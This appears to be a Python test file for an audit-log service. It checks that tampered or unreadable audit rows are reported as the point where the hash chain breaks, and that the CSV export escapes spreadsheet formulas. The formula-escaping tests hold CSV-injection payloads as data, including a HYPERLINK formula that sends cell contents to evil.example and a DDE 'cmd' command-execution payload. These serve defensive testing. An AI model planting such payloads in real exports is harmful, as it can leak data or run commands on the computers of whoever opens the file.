"""
The audit log as read back: a row edited into nonsense is where the chain is broken, and the
CSV export cannot run a formula in the complaints panel's spreadsheet. On SQLite and PostgreSQL.
"""

import csv
import datetime as dt
import io
import os
import shutil
import subprocess

import pytest
from sqlalchemy import Engine, text

from app.domain import UTC
from app.services.keys import create_key
from app.services.windows import add_manual_window
from app.store import load_policy
from app.store.audit import export_events, verify_organisation
from app.store.keys import Role
from app.store.unit_of_work import Actor, UnitOfWork
from tests.conftest import ROOT, Keys

POLICY = load_policy(ROOT / "policies" / "redruth.yaml")
NOW = dt.datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
OPERATOR = Actor("tests", "operator")
PURDAH = shutil.which("purdah") or str(ROOT / ".venv" / "bin" / "purdah")


# --- the audit log: a row that cannot be read is where the chain is broken ---


def test_verify_reports_an_unreadable_time_as_the_broken_event(
    engine: Engine, seeded: Keys
) -> None:
    """'infinity' is a timestamp PostgreSQL stores but Python cannot read; on SQLite, not a time."""
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_event SET at = 'infinity' WHERE seq = 7"))

    result = verify_organisation(engine, "redruth")

    assert (result.ok, result.check.broken_at) == (False, 7)
    assert "cannot be read" in (result.problem or "")


def test_an_edit_before_an_unreadable_event_is_reported_first(engine: Engine, seeded: Keys) -> None:
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_event SET reason = 'x' WHERE seq = 3"))
        connection.execute(text("UPDATE audit_event SET at = 'infinity' WHERE seq = 7"))

    result = verify_organisation(engine, "redruth")

    assert (result.ok, result.check.broken_at) == (False, 3)
    assert "edited" in (result.problem or "")


def test_purdah_audit_verify_says_where_an_unreadable_event_is(
    engine: Engine, database_url: str, seeded: Keys
) -> None:
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_event SET at = 'infinity' WHERE seq = 7"))

    result = subprocess.run(
        [PURDAH, "audit", "verify"],
        capture_output=True,
        text=True,
        env={**os.environ, "PURDAH_DATABASE_URL": database_url},
        check=False,
        timeout=120,
    )

    assert result.returncode == 1, result.stderr
    assert "BROKEN at event 7" in result.stdout
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_purdah_audit_export_stops_at_an_unreadable_event_and_says_which(
    engine: Engine, database_url: str, seeded: Keys, fmt: str
) -> None:
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_event SET at = 'infinity' WHERE seq = 7"))

    result = subprocess.run(
        [PURDAH, "audit", "export", "--format", fmt],
        capture_output=True,
        text=True,
        env={**os.environ, "PURDAH_DATABASE_URL": database_url},
        check=False,
        timeout=120,
    )

    assert result.returncode == 2
    assert "audit event 7 cannot be read" in result.stderr
    assert "Traceback" not in result.stderr


# --- the CSV export: no cell a spreadsheet would run as a formula ---


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A1) (k1)', "+1+2 (k1)", "-2+3 (k1)", "@SUM(A1:A9) (k1)"],
    ids=["equals", "plus", "minus", "at"],
)
def test_the_csv_export_escapes_a_formula_in_an_actors_name(
    engine: Engine, seeded: Keys, name: str
) -> None:
    """A key's name is the actor of every change it makes; the Clerk names keys freely."""
    start = dt.datetime(2030, 1, 1, tzinfo=UTC)
    add_manual_window(UnitOfWork(engine), POLICY, Actor(name, "clerk"), starts_at=start, ends_at=start + dt.timedelta(days=1),
        account_ids=None, reason="review", now=NOW,
    )  # fmt: skip

    rows = list(csv.DictReader(io.StringIO("".join(export_events(engine, "redruth", "csv")))))

    assert rows[-1]["actor"] == f"'{name}"
    assert rows[-1]["reason"] == "review"
    assert rows[-1]["seq"].isdigit()


@pytest.mark.parametrize(
    "reason",
    ["\t=cmd|' /C calc'!A0", "\r=1+1", "=1+1"],
    ids=["tab", "carriage-return", "equals"],
)
def test_the_csv_export_escapes_a_reason_a_spreadsheet_would_run(
    engine: Engine, seeded: Keys, reason: str
) -> None:
    """A tab or CR cannot be stored through the service now; one stored before is escaped too."""
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_event SET reason = :r WHERE seq = 3"), {"r": reason})

    rows = list(csv.DictReader(io.StringIO("".join(export_events(engine, "redruth", "csv")))))

    assert rows[2]["reason"] == f"'{reason}"


def test_the_jsonl_export_keeps_values_as_stored(engine: Engine, seeded: Keys) -> None:
    create_key(UnitOfWork(engine), "redruth", OPERATOR, role=Role.VIEWER, name="=1+1", now=NOW)

    out = "".join(export_events(engine, "redruth", "jsonl"))

    assert '"name": "=1+1"' in out
